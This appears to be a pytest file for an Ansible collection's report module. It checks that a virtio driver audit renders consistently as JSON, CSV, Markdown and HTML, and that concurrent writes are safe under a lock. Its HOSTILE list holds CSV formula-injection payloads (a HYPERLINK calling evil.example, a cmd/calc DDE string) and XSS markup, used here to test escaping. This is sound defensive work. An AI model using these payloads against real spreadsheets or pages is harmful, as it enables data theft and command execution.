"""The report model and its three renderings agree."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
import textwrap

import pytest

from ansible_collections.winfleet.updates.plugins.module_utils._report import (
    Report, count_by, csv_safe, merge_rows, render_csv, render_html, render_json, render_markdown, report_lock,
    write_report,
)
from ansible_collections.winfleet.updates.plugins.module_utils._virtio_report import audit_row, audit_summary


def _report():
    rows = [
        audit_row("a", {"is_virtio_guest": True, "virtio_build": 58011, "file_version": "62.77.104.58011",
                        "os_version": "10.0.17763", "update_supported": True, "update_needed": True,
                        "capabilities": {"online_resize": True, "serial_query": False}}),
        audit_row("b|c", {"unreachable": True, "msg": "timed out"}),
        audit_row("d", {"failed": True, "msg": "viostor.sys.file_version: cannot read"}),
        audit_row("e", None),
    ]
    return Report("virtio_audit", "virtio driver audit", ["host", "status", "state", "capabilities", "error"],
                  rows, audit_summary(rows), "2026-01-01T00:00:00+00:00")


def test_rows_say_something_for_every_host():
    rows = _report().rows
    assert [(r["host"], r["status"], r["state"]) for r in rows] == [
        ("a", "ok", "update_needed"), ("b|c", "unreachable", "unknown"), ("d", "failed", "unknown"), ("e", "failed", "unknown")]
    assert "not probed" in rows[3]["error"]


def test_summary_counts_every_status_even_at_zero():
    summary = _report().summary
    assert summary["by_status"] == {"ok": 1, "unreachable": 1, "failed": 2}
    assert summary["by_state"]["compliant"] == 0
    assert summary["capability_allowed"] == {"online_resize": 1, "serial_query": 0}


def test_count_by_puts_known_values_first():
    assert count_by([{"s": "x"}, {"s": "b"}], "s", ["a", "b"]) == {"a": 0, "b": 1, "x": 1}


def test_json_csv_and_markdown_agree():
    report = _report()
    data = json.loads(render_json(report))
    table = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert [r["host"] for r in data["hosts"]] == [r["host"] for r in table]
    assert table[0]["capabilities.online_resize"] == "yes"
    assert table[1]["capabilities.online_resize"] == ""
    markdown = render_markdown(report)
    assert "| b\\|c | unreachable |" in markdown
    assert "capabilities.serial_query" in markdown.splitlines()[markdown.splitlines().index("## Hosts") + 2]


def test_write_report_writes_four_files(tmp_path):
    written, paths = write_report(_report(), tmp_path / "new")
    assert sorted(paths) == ["csv", "html", "json", "md"]
    assert written.summary["total"] == 4
    assert json.loads((tmp_path / "new" / "virtio_audit.json").read_text())["summary"]["total"] == 4
    # only the lock file is hidden; no temporary file is left behind
    assert [p.name for p in (tmp_path / "new").iterdir() if p.name.startswith(".")] == [".virtio_audit.lock"]


HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "62.77|104\n| injected | row |",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\x1b[31mred",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_never_start_a_formula(value):
    report = _report()
    report.rows[0]["error"] = value
    (row, *_) = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert row["error"] == value if not value.startswith(("=", "+", "-", "@", "\t", "\r")) else "'" + value
    assert not row["error"].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(("value", "kept"), [("-5", "-5"), ("-0.5", "-0.5"), ("-x", "'-x"), ("a=b", "a=b")])
def test_csv_safe_leaves_numbers_and_inner_signs(value, kept):
    assert csv_safe(value) == kept


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_rows_stay_one_row_with_the_same_cells(value):
    report = _report()
    report.rows[0]["error"] = value
    lines = render_markdown(report).splitlines()
    header = lines.index("## Hosts") + 2
    table = lines[header:]
    assert len(table) == 2 + len(report.rows)
    cells = [len(re.findall(r"(?<!\\)\|", line)) for line in table]
    assert len(set(cells)) == 1, table
    assert "<script" not in table[2] and "\x1b" not in table[2]


@pytest.mark.parametrize("value", HOSTILE)
def test_html_shows_every_value_as_text(value):
    report = _report()
    report.rows[0]["error"] = value
    report.rows[1]["host"] = value
    page = render_html(report)
    assert "<script>alert" not in page and "<img" not in page
    assert html.escape(value) in page
    assert page.count("<script>") == 1  # the page's own filter script only


def test_html_is_self_contained():
    page = render_html(_report())
    assert not re.search(r"(src|href)=[\"']?(https?:)?//", page)
    assert "default-src 'none'" in page


def test_merge_keeps_rows_the_run_did_not_write():
    old = [{"host": "a", "status": "updated"}, {"host": "b", "status": "failed"}, {"host": "c", "status": "updated"}]
    new = [{"host": "b", "status": "updated"}, {"host": "c", "status": "not_attempted"}, {"host": "d", "status": "updated"}]
    merged = merge_rows(old, new, "host", replaces=lambda row: row["status"] != "not_attempted")
    assert [(r["host"], r["status"]) for r in merged] == [("a", "updated"), ("b", "updated"), ("c", "updated"), ("d", "updated")]


def test_merge_callback_runs_under_the_lock_with_the_existing_report(tmp_path):
    write_report(_report(), tmp_path)
    seen = {}

    def merge(new, old):
        seen["old_total"] = old["summary"]["total"]
        # a second writer cannot take the lock while this one holds it
        with pytest.raises(TimeoutError):
            with report_lock(tmp_path, "virtio_audit", timeout=0.2):
                pass
        return new

    write_report(_report(), tmp_path, merge=merge)
    assert seen == {"old_total": 4}


def test_two_processes_writing_at_once_never_corrupt_the_report(tmp_path):
    script = textwrap.dedent(f"""
        import sys
        sys.path[:0] = {sys.path!r}
        from ansible_collections.winfleet.updates.plugins.module_utils._report import Report, merge_rows, write_report
        name = sys.argv[1]
        for n in range(15):
            report = Report("r", "t", ["host", "status"], [{{"host": f"{{name}}-{{n}}", "status": "ok"}}], {{}}, "now")
            def merge(new, old):
                rows = merge_rows((old or {{}}).get("hosts", []), new.rows, "host")
                return Report(new.name, new.title, new.columns, rows, {{"total": len(rows)}}, "now")
            write_report(report, {str(tmp_path)!r}, merge=merge)
    """)
    workers = [subprocess.Popen([sys.executable, "-c", script, name]) for name in ("x", "y")]
    assert [worker.wait(timeout=60) for worker in workers] == [0, 0]
    data = json.loads((tmp_path / "r.json").read_text())
    assert data["summary"]["total"] == 30 and len({row["host"] for row in data["hosts"]}) == 30
